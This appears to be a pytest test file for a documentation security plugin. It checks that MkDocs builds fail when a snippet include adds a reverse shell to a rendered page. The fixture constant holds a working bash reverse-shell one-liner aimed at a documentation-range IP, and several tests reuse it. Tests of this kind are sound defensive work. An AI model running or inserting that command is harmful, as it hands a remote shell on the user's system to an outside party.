"""LATE001: content that enters a page while it renders fails the build (real builds).

`pymdownx.snippets` includes a file from outside docs_dir: the source scan (and
`threatpub check`) cannot see it; the plugin scans the rendered HTML and fails the build.
Replicate with: mkdocs build -f <tmp>/site/mkdocs.yml (snippets under <tmp>/site/snippets).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from tests.conftest import Site, make_site, mkdocs, threatpub

# Every test here runs real builds, servers or a browser (-m 'not slow' skips them).
pytestmark = pytest.mark.slow

SHELL = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"
CLEAN_SNIPPET = "pip install --upgrade example-lib==2.4.1\n"
PAGE = """
# Upgrade notes

Install the fixed release:

```bash
--8<-- "shell.txt"
```
"""
EXTENSIONS = {
    "markdown_extensions": [
        {"pymdownx.snippets": {"base_path": ["snippets"], "check_paths": True}},
        "pymdownx.highlight",
        "pymdownx.superfences",
    ]
}


def snippet_site(
    root: Path, snippet: str, pages: dict[str, str] | None = None, options: dict | None = None
) -> Site:
    site = make_site(
        root,
        {"index.md": "# Home\n", "posts/upgrade.md": PAGE, **(pages or {})},
        options,
        extra=EXTENSIONS,
    )
    (root / "snippets").mkdir()
    (root / "snippets" / "shell.txt").write_text(snippet, encoding="utf-8")
    return site


def report(site: Site) -> dict:
    return json.loads((site.root / ".threatpub" / "report.json").read_text(encoding="utf-8"))


def test_included_reverse_shell_fails_the_build(tmp_path: Path) -> None:
    site = snippet_site(tmp_path / "site", SHELL)

    # The source scan sees a clean page: the include is just a line of Markdown.
    checked = threatpub("check", "-f", "mkdocs.yml", "--format", "json", cwd=site.root)
    assert checked.returncode == 0, checked.stdout
    [upgrade] = [p for p in json.loads(checked.stdout)["pages"] if p["path"] == "posts/upgrade.md"]
    assert upgrade["verdict"] == "publish"

    result = mkdocs(site, "build")
    assert result.returncode != 0, "replicate with: mkdocs build in " + str(site.root)
    log = result.stderr
    assert "LATE001" in log
    assert "posts/upgrade.md:6" in log  # the include's line in the source page
    assert "reverse shell" in log
    assert "remove the include" in log
    assert "Traceback" not in log
    assert "203.0.113.5" not in log
    # The page's output is gone; nothing else copied its text (the build stopped before the
    # search index was written).
    assert not site.built("posts/upgrade.md")
    assert site.built("index.md")
    assert "203.0.113.5" not in site.all_output_text()
    # The report names the failure.
    data = report(site)
    [page] = [p for p in data["pages"] if p["path"] == "posts/upgrade.md"]
    assert page["verdict"] == "fail"
    [late] = [f for f in page["findings"] if f["code"] == "LATE001"]
    assert (late["action"], late["line"]) == ("fail", 6)
    assert "203.0.113.5" not in json.dumps(data)


def test_included_clean_snippet_builds(tmp_path: Path) -> None:
    site = snippet_site(tmp_path / "site", CLEAN_SNIPPET)
    result = mkdocs(site, "build", "--strict")
    assert result.returncode == 0, result.stderr
    assert site.built("posts/upgrade.md")
    html = (site.out / "posts" / "upgrade" / "index.html").read_text(encoding="utf-8")
    assert "example-lib==2.4.1" in BeautifulSoup(html, "html.parser").get_text()


def test_accepted_source_content_is_not_reported_again(tmp_path: Path) -> None:
    """Near miss: a shell the source has (and a reviewer allowed) is not late; a second one
    brought in by an include is."""
    allowed = (
        "# Lab\n\n"
        '<!-- threatpub: allow CAC402 reason="our lab host; reviewed by security-review" -->\n'
        "```bash\n" + SHELL + "```\n\n"
        '```bash\n--8<-- "shell.txt"\n```\n'
    )
    same = snippet_site(tmp_path / "same", CLEAN_SNIPPET, {"posts/lab.md": allowed})
    result = mkdocs(same, "build", "--strict")
    assert result.returncode == 0, result.stderr
    assert same.built("posts/lab.md")

    other = snippet_site(
        tmp_path / "other", SHELL.replace("4444", "5555"), {"posts/lab.md": allowed}
    )
    result = mkdocs(other, "build")
    assert result.returncode != 0
    assert result.stderr.count("LATE001 late-content-violation") == 2  # lab.md and upgrade.md
    assert not other.built("posts/lab.md")
    assert not other.built("posts/upgrade.md")


def test_late001_is_documented_and_locked(tmp_path: Path) -> None:
    explained = threatpub("explain", "LATE001", "--format", "json")
    assert explained.returncode == 0
    data = json.loads(explained.stdout)
    assert (data["name"], data["default_action"], data["locked"]) == (
        "late-content-violation",
        "fail",
        True,
    )
    for section in data["docs"].values():
        assert section.strip()
    site = snippet_site(tmp_path / "site", SHELL, options={"rules": {"LATE001": "warn"}})
    result = mkdocs(site, "build")
    assert result.returncode != 0
    assert "LATE001" in result.stderr
    assert "locked" in result.stderr
